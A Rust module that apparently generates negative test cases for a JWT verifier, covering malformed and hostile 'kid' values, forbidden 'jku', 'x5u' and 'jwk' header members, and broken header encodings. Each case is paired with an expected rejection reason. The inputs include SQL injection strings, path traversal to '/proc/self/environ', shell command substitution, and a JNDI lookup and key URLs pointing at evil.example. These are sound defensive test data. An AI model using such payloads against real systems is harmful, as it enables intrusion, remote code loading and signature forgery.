//! Key ids that are more than a name, members that bring a key along, headers that are no objects.

use serde_json::{Value, json};

use super::{
    Class, Corpus,
    forge::{Forge, encode, text, with},
};

pub(super) fn add(corpus: &mut Corpus, forge: &Forge<'_>) {
    key_ids(corpus, forge);
    members(corpus, forge);
    forms(corpus, forge);
}

fn key_ids(corpus: &mut Corpus, forge: &Forge<'_>) {
    let id = forge.key().id();
    let mut without = forge.header.clone();
    without.remove("kid");
    corpus.add(Class::KeyId, "missing", forge.under(&without), "missing_key_id");
    for value in [json!(null), json!(true), json!(7), json!([id]), json!({ "id": id })] {
        corpus.add(Class::KeyId, &value, forge.header("kid", value.clone()), "header_malformed");
    }
    let longest = "k".repeat(129);
    for value in [
        "",
        " ",
        &format!("{id} "),
        &format!(" {id}"),
        &format!("{id}\n"),
        &format!("{id}\0"),
        &format!("{id}\u{435}"),
        &longest,
        "x' UNION SELECT 'key",
        "key\r\nX-Injected: 1",
        "$(touch key)\u{7f}",
        "\u{202e}yek",
    ] {
        corpus.add(Class::KeyId, format_args!("{value:?}"), forge.header("kid", value), "invalid_key_id");
    }
    for value in [
        "../../../../dev/null",
        "/proc/self/environ",
        "file:///dev/null",
        "http://evil.example/key",
        "https://evil.example/keys#0",
        "'OR'1'='1",
        "x'||'y",
        "|/usr/bin/id",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "*",
        "%00",
        &format!("{id}%00"),
        &format!("{id}/"),
        &format!("{id}="),
        &format!("./{id}"),
        &format!("{id};x"),
        &id.to_lowercase(),
        &id.to_uppercase(),
        &id.chars().rev().collect::<String>(),
        &id[..id.len() - 1],
        "0",
        "null",
    ] {
        corpus.add(Class::KeyId, format_args!("{value:?}"), forge.header("kid", value), "unknown_key");
    }
}

fn members(corpus: &mut Corpus, forge: &Forge<'_>) {
    let foreign = forge.foreign_key();
    let jwk = json!({ "kty": "RSA", "n": foreign.modulus(), "e": "AQAB", "kid": forge.key().id(), "use": "sig" });
    let members = [
        ("jku", json!("https://evil.example/keys")),
        ("x5u", json!("https://evil.example/certificate.pem")),
        ("x5c", json!([encode(foreign.public_key())])),
        ("jwk", jwk),
        ("crit", json!(["exp"])),
        ("b64", json!(true)),
    ];
    for (name, likely) in members {
        for value in [likely, json!(null), json!(false), json!(""), json!([]), json!({}), json!(0)] {
            let variation = format!("{name}: {value}");
            corpus.add(Class::HeaderMember, variation, forge.header(name, value), "header_not_allowed");
        }
    }
    for value in [json!("nonce"), json!(null), json!([]), json!(0)] {
        corpus.add(
            Class::HeaderMember,
            format_args!("nonce: {value}"),
            forge.header("nonce", value.clone()),
            "graph_token",
        );
    }
    let unencoded = with(&with(&forge.header, "b64", false), "crit", json!(["b64"]));
    let token = forge.sealed(&format!("{}.{}", encode(text(&unencoded)), text(&forge.claims).replace('.', "")));
    corpus.add(Class::HeaderMember, "unencoded claims (RFC 7797)", token, "header_not_allowed");
    let nested = encode(forge.valid().join("."));
    let header = encode(text(&with(&forge.header, "cty", "JWT")));
    let token = forge.sealed(&format!("{header}.{nested}"));
    corpus.add(Class::HeaderMember, "cty: a token in a token", token, "claims_malformed");
}

fn forms(corpus: &mut Corpus, forge: &Forge<'_>) {
    let [_, claims, _] = forge.valid();
    let id = forge.key().id();
    let header = text(&forge.header);
    let mut add = |variation: &str, header: &[u8], reason| {
        corpus.add(Class::HeaderForm, variation, forge.sealed(&format!("{}.{claims}", encode(header))), reason);
    };
    for (name, right) in [("alg", "RS256"), ("kid", id.as_str())] {
        for (how, first) in [
            ("wrong first", format!(r#"{{"{name}":"none","#)),
            ("the same", format!(r#"{{"{name}":"{right}","#)),
            ("escaped", format!(r#"{{"\u00{:02x}{}":"{right}","#, name.as_bytes()[0], &name[1..])),
        ] {
            add(&format!("{name} twice, {how}"), header.replacen('{', &first, 1).as_bytes(), "header_malformed");
        }
    }
    for value in [json!(null), json!(256), json!(true), json!(["RS256"]), json!({ "alg": "RS256" })] {
        let text = text(&with(&forge.header, "alg", value.clone()));
        add(&format!("alg: {value}"), text.as_bytes(), "header_malformed");
    }
    for (name, reason) in [("alg", "wrong_algorithm"), ("kid", "missing_key_id")] {
        let mut upper = forge.header.clone();
        let value = upper.remove(name).unwrap_or_default();
        upper.insert(name.to_uppercase(), value);
        add(&format!("{name} in upper case"), text(&upper).as_bytes(), reason);
    }
    for (variation, header) in [
        ("empty", String::new()),
        ("an array", json!(["RS256", id]).to_string()),
        ("a string", json!("RS256").to_string()),
        ("a number", json!(256).to_string()),
        ("null", Value::Null.to_string()),
        ("not JSON", "alg=RS256".to_owned()),
        ("cut off", header[..header.len() - 1].to_owned()),
        ("two objects", format!("{header}{{}}")),
        ("a comma too much", header.replace('}', ",}")),
        ("single quotes", header.replace('"', "'")),
        ("a comment", header.replacen('{', "{/**/", 1)),
        ("a byte order mark", format!("\u{feff}{header}")),
        ("white space in front", format!(" {header}")),
        ("a NUL behind", format!("{header}\0")),
        ("deep", format!("{}{}", r#"{"a":"#.repeat(500), "}".repeat(500))),
        ("encoded twice", encode(&header)),
    ] {
        add(variation, header.as_bytes(), "header_malformed");
    }
    let not_utf_8 = [br#"{"alg":"RS256"#.as_slice(), b"\xff", br#"","kid":"k"}"#].concat();
    add("not UTF-8", &not_utf_8, "header_malformed");
    let utf_16: Vec<u8> = header.encode_utf16().flat_map(u16::to_le_bytes).collect();
    add("UTF-16", &utf_16, "header_malformed");
}
